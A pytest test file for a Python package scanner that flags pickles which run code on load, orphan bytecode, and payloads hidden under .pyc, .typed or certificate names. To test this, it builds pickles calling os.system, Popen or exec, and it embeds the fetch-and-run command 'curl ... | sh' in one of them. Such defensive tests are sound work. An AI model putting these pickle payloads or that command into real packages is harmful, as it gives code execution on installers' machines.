"""``pickles``: a shipped pickle is read as what loading it would call, and
bytecode without its source is compiled code. The pickles here are built with
``pickle.dumps`` from objects whose ``__reduce__`` names a callable: they are only
listed by the scanner (``pickletools.genops``), never loaded."""

from __future__ import annotations

import io
import os
import pickle
import subprocess
import zipfile
from collections import OrderedDict
from pathlib import Path

import pytest

from guard.analysis.scan import scan_archive
from guard.analysis.scan.pickles import pickle_hit


class _Calls:
    """Pickles as a call of ``func`` with ``args`` (what a malicious model holds)."""

    def __init__(self, func: object, *args: object) -> None:
        self.func, self.args = func, args

    def __reduce__(self) -> tuple[object, tuple[object, ...]]:
        return self.func, self.args


def _torch_like(payload: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("model/data.pkl", payload)
        archive.writestr("model/data/0", b"\0" * 64)
    return buffer.getvalue()


@pytest.mark.parametrize("protocol", [0, 2, 4])
@pytest.mark.parametrize(
    "call", [_Calls(os.system, "id"), _Calls(subprocess.Popen, ["id"]), _Calls(exec, "1")]
)
def test_a_pickle_that_runs_code_when_loaded(protocol: int, call: _Calls) -> None:
    data = pickle.dumps(call, protocol=protocol)
    hit = pickle_hit("pkg/model.pkl", data)
    assert hit is not None and hit.kind == "pickle-code"
    assert pickle_hit("pkg/model.pt", _torch_like(data)) is not None


def test_pickles_of_plain_data_and_classes_are_quiet() -> None:
    honest = pickle.dumps({"weights": [0.1, 0.2], "order": OrderedDict(a=1), "path": Path("x")})
    assert pickle_hit("pkg/model.pkl", honest) is None
    assert pickle_hit("pkg/model.pt", _torch_like(honest)) is None


@pytest.mark.parametrize("data", [b"", b"\x80\x05garbage", b"PK\x03\x04broken", b"(" * 100_000])
def test_broken_pickles_do_not_crash_the_scan(data: bytes) -> None:
    assert pickle_hit("pkg/model.pkl", data) is None


def _wheel(tmp_path: Path, files: dict[str, bytes]) -> Path:
    target = tmp_path / "demo-1.0-py3-none-any.whl"
    with zipfile.ZipFile(target, "w") as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return target


def test_a_wheel_that_ships_a_pickle_which_runs_a_shell_blocks(tmp_path: Path) -> None:
    model = pickle.dumps(_Calls(os.system, "curl -s http://127.0.0.1:9/x | sh"))
    files = {"demo/__init__.py": b"", "demo/model.pkl": model}
    result = scan_archive(_wheel(tmp_path, files), "demo-1.0-py3-none-any.whl")
    assert result.level == "block"
    assert any(s.kind == "pickle-code" for s in result.signals)


def test_bytecode_without_its_source_is_compiled_code(tmp_path: Path) -> None:
    code = compile("x = 1\n", "full.py", "exec")
    import importlib.util
    import marshal

    pyc = importlib.util.MAGIC_NUMBER + b"\0" * 12 + marshal.dumps(code)
    alone = {"demo/__init__.py": b"from . import full\n", "demo/full.pyc": pyc}
    result = scan_archive(_wheel(tmp_path, alone), "demo-1.0-py3-none-any.whl")
    assert result.level == "block"
    assert any(s.kind == "compiled-module" and s.file == "demo/full.pyc" for s in result.signals)
    # a cache of a source the wheel holds is no hidden code, nor a stale cache of
    # a source that is gone: Python never imports from __pycache__ without it
    cached = {
        "demo/__init__.py": b"from . import full\n",
        "demo/full.py": b"x = 1\n",
        "demo/__pycache__/full.cpython-311.pyc": pyc,
        "demo/__pycache__/gone.cpython-311.pyc": pyc,
    }
    (tmp_path / "c").mkdir()
    quiet = scan_archive(_wheel(tmp_path / "c", cached), "demo-1.0-py3-none-any.whl")
    assert quiet.level == "clean"


def test_what_is_no_bytecode_under_a_bytecode_name_blocks(tmp_path: Path) -> None:
    """A zip (which ``zipimport`` loads code from) or encrypted data named as a
    cache's ``.pyc``: a payload kept where no reader looks. AppleDouble files and
    files too short to tell are no finding."""
    zipped = b"PK\x03\x04" + b"\x14\x00" * 30
    encrypted = bytes((i * 73 + 11) % 256 for i in range(200))
    for name, data in (("zip", zipped), ("data", encrypted)):
        files = {
            "demo/__init__.py": b"",
            "demo/web.py": b"x = 1\n",
            f"demo/__pycache__/{name}.pyc": data,
        }
        folder = tmp_path / name
        folder.mkdir()
        result = scan_archive(_wheel(folder, files), "demo-1.0-py3-none-any.whl")
        assert result.level == "block"
        found = [s for s in result.signals if s.kind == "disguised"]
        assert found and found[0].file == f"demo/__pycache__/{name}.pyc"
    quiet = {
        "demo/__init__.py": b"",
        "demo/__pycache__/._web.cpython-311.pyc": b"\x00\x05\x16\x07" + b"\x00" * 60,
        "demo/__pycache__/empty.pyc": b"",
    }
    (tmp_path / "q").mkdir()
    assert scan_archive(_wheel(tmp_path / "q", quiet), "demo-1.0-py3-none-any.whl").level == "clean"


def test_binary_data_in_a_type_marker_file_blocks(tmp_path: Path) -> None:
    """``py.typed`` holds nothing or ``partial``: 64 KB of encrypted data under a
    ``.typed`` name is a payload kept where no reader looks."""
    data = bytes((i * 73 + 11) % 256 for i in range(65536))
    files = {"demo/__init__.py": b"", "demo/_tables.typed": data}
    result = scan_archive(_wheel(tmp_path, files), "demo-1.0-py3-none-any.whl")
    assert result.level == "block"
    assert [s.kind for s in result.signals] == ["disguised"]
    markers = {"demo/__init__.py": b"", "demo/py.typed": b"partial\n", "demo/x.typed": "é".encode()}
    (tmp_path / "q").mkdir()
    assert (
        scan_archive(_wheel(tmp_path / "q", markers), "demo-1.0-py3-none-any.whl").level == "clean"
    )


def _zip_of(name: str, text: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as inner:
        inner.writestr(name, text)
    return buffer.getvalue()


def test_a_zip_of_code_under_a_certificate_name_blocks(tmp_path: Path) -> None:
    """``server.crt`` that is a zip holding a module: zipimport loads code from
    it. Certificates in PEM or DER, and a zip named as one, are no finding."""
    payload = _zip_of("SSLv1.0.py", b"import os\n")
    files = {"demo/__init__.py": b"", "demo/server.crt": payload}
    result = scan_archive(_wheel(tmp_path, files), "demo-1.0-py3-none-any.whl")
    assert result.level == "block"
    found = [s for s in result.signals if s.kind == "disguised"]
    assert found and "holding 'SSLv1.0.py' named server.crt" in found[0].text
    honest = {
        "demo/__init__.py": b"",
        "demo/ca.crt": b"-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n",
        "demo/ca.cer": b"\x30\x82\x01\x0a" + bytes(range(60)),
        "demo/data/fixtures.zip": payload,
    }
    (tmp_path / "h").mkdir()
    assert (
        scan_archive(_wheel(tmp_path / "h", honest), "demo-1.0-py3-none-any.whl").level == "clean"
    )


def test_a_model_saved_as_a_zip_under_a_bin_name_is_no_disguise(tmp_path: Path) -> None:
    """PyTorch saves a model as a zip (``archive/data.pkl`` first): named
    ``pytorch_model.bin`` it is what it says, not code for zipimport."""
    model = _zip_of("archive/data.pkl", b"\x80\x02}q\x00.")
    files = {"demo/__init__.py": b"", "demo/assets/pytorch_model.bin": model}
    assert scan_archive(_wheel(tmp_path, files), "demo-1.0-py3-none-any.whl").level == "clean"
